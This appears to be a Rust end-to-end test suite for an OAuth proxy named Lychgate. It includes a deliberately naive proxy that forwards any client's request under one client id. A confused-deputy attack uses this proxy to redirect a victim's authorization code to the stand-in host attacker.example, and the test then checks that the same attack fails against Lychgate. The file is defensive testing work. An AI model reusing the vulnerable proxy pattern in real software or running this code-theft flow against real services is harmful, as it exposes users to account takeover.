//! The confused deputy: an upstream that remembers the person and the static client shows no page, so an attacker
//! who makes the person's browser open a link would get a code for that person.

use std::collections::BTreeMap;
use std::net::Ipv4Addr;
use std::sync::{Arc, Mutex, PoisonError};

use anyhow::{Context, Result, bail};
use axum::extract::{Form, Query, State};
use axum::response::{IntoResponse, Redirect, Response};
use axum::routing::{get, post};
use axum::{Json, Router};
use base64::Engine;
use base64::prelude::BASE64_URL_SAFE_NO_PAD;
use e2e::flow::{LOOPBACK, Stage};
use e2e::http::{self, Jar, Page, Visit};
use e2e::upstream::Upstream;
use serde_json::{Value, json};
use tokio::net::TcpListener;
use url::Url;

use crate::{Led, led_to};

const ATTACKER: &str = "https://attacker.example/callback";

/// The attack first succeeds against a naive proxy that sends every request on with its one client id. Then the
/// same attack runs against Lychgate.
///
/// Requirements: B1, B3.
#[tokio::test]
async fn the_confused_deputy_works_against_a_naive_proxy_and_not_against_lychgate() -> Result<()> {
    let stage = Stage::start("").await?;
    let naive = NaiveProxy::start(&stage.upstream).await?;
    let lure = Url::parse("https://attacker.example/lure")?;

    // The victim has used an honest app before, and the upstream remembers them.
    let mut victim = Jar::new()?;
    stage.upstream.sign_in_as("victim");
    let honest = stage.gate.app(&[LOOPBACK]).await?;
    honest.request().tokens(&mut victim).await?;
    stage.upstream.sign_in_as("nobody");
    let before = stage.upstream.asked();

    // The victim clicks on the attacker's link, once.
    let link = format!("{}/authorize?client_id=attacker&redirect_uri={ATTACKER}&state=1", naive.origin);
    let clicked = victim.send(Visit::link(link, &lure)?).await?;
    let Led::Away(stolen) = led_to(&mut victim, clicked, &[&naive.origin, stage.upstream.issuer()]).await? else {
        bail!("the naive proxy is not naive enough for this test to mean anything");
    };
    assert!(stolen.uri.as_str().starts_with(ATTACKER));
    assert_eq!(naive.redeem(&stolen.code()?).await?["sub"], "victim");
    assert_eq!(stage.upstream.asked().remembered, before.remembered + 1, "and no page was shown");

    // The same attacker, victim and click, at Lychgate.
    let before = stage.upstream.asked();
    let attacker = stage.gate.app(&[ATTACKER]).await?;
    let clicked = victim.send(Visit::link(attacker.request().url(), &lure)?).await?;
    let ours = [stage.gate.issuer(), stage.upstream.issuer()];
    let Led::ToAPage(page) = led_to(&mut victim, clicked, &ours).await? else { bail!("the victim was led away") };
    assert_eq!(page.status, 200, "{}", page.summary());
    assert!(page.hidden("form_token").is_ok() && page.body.contains("attacker.example"), "{}", page.body);
    let after = stage.upstream.asked();
    assert_eq!(after.authorizations.len(), before.authorizations.len(), "no request reached the upstream");
    assert_eq!((after.codes_given, after.exchanges.len()), (before.codes_given, before.exchanges.len()));
    stage.stop().await
}

/// Consent to one client in this browser does not count for another client.
///
/// Requirements: B2, B13, conflict 3, conflict 4.
#[tokio::test]
async fn consent_to_one_client_opens_nothing_to_another() -> Result<()> {
    let stage = Stage::start("").await?;
    let mut jar = Jar::new()?;
    stage.gate.app(&[LOOPBACK]).await?.request().tokens(&mut jar).await?;
    let before = stage.upstream.asked().authorizations.len();
    let other = stage.gate.app(&[LOOPBACK]).await?;
    other.request().open(&mut jar).await?;
    assert_eq!(stage.upstream.asked().authorizations.len(), before);
    stage.stop().await
}

/// A naive proxy.
struct NaiveProxy {
    origin: String,
    server: tokio::task::JoinHandle<()>,
}

#[derive(Clone)]
struct Naive {
    origin: String,
    upstream: String,
    client: (&'static str, &'static str),
    http: reqwest::Client,
    /// By state: the redirect target; by code: the subject.
    kept: Arc<Mutex<BTreeMap<String, Value>>>,
}

type Parameters = BTreeMap<String, String>;

impl NaiveProxy {
    async fn start(upstream: &Upstream) -> Result<Self> {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await?;
        let origin = format!("http://{}", listener.local_addr()?);
        let naive = Naive {
            origin: origin.clone(),
            upstream: upstream.issuer().to_owned(),
            client: upstream.client(),
            http: http::client()?,
            kept: Arc::default(),
        };
        let routes = Router::new()
            .route("/authorize", get(naive_authorize))
            .route("/callback/naive", get(naive_callback))
            .route("/token", post(naive_token))
            .with_state(naive);
        let server = tokio::spawn(async move { axum::serve(listener, routes).await.unwrap_or_default() });
        Ok(Self { origin, server })
    }

    async fn redeem(&self, code: &str) -> Result<Value> {
        Page::of(http::client()?.post(format!("{}/token", self.origin)).form(&[("code", code)])).await?.json()
    }
}

impl Drop for NaiveProxy {
    fn drop(&mut self) {
        self.server.abort();
    }
}

impl Naive {
    fn keep(&self, key: &str, value: Value) {
        self.kept.lock().unwrap_or_else(PoisonError::into_inner).insert(key.to_owned(), value);
    }

    fn take(&self, key: &str) -> Option<Value> {
        self.kept.lock().unwrap_or_else(PoisonError::into_inner).remove(key)
    }

    async fn finish(&self, query: &Parameters) -> Result<Response> {
        let client = self.take(query.get("state").context("state")?).context("a state of ours")?;
        let form = [
            ("grant_type", "authorization_code"),
            ("code", query.get("code").context("code")?),
            ("redirect_uri", &format!("{}/callback/naive", self.origin)),
        ];
        let request = self.http.post(format!("{}/token", self.upstream)).basic_auth(self.client.0, Some(self.client.1));
        let tokens = Page::of(request.form(&form)).await?.json()?;
        let claims = tokens["id_token"].as_str().and_then(|token| token.split('.').nth(1)).context("an ID token")?;
        let claims: Value = serde_json::from_slice(&BASE64_URL_SAFE_NO_PAD.decode(claims)?)?;
        self.keep("the code", json!({ "sub": claims["sub"] }));
        let to = client["redirect_uri"].as_str().context("a redirect URI")?;
        Ok(Redirect::to(&format!("{to}?code=the%20code")).into_response())
    }
}

async fn naive_authorize(State(naive): State<Naive>, Query(query): Query<Parameters>) -> Response {
    naive.keep("naive-state", json!(query));
    let callback = format!("{}/callback/naive", naive.origin);
    let (upstream, client_id) = (&naive.upstream, naive.client.0);
    let parameters = format!("client_id={client_id}&redirect_uri={callback}&response_type=code&state=naive-state");
    Redirect::to(&format!("{upstream}/authorize?{parameters}&scope=openid")).into_response()
}

async fn naive_callback(State(naive): State<Naive>, Query(query): Query<Parameters>) -> Response {
    naive.finish(&query).await.unwrap_or_else(|error| format!("{error:#}").into_response())
}

async fn naive_token(State(naive): State<Naive>, Form(form): Form<Parameters>) -> Json<Value> {
    Json(form.get("code").and_then(|code| naive.take(code)).unwrap_or_default())
}
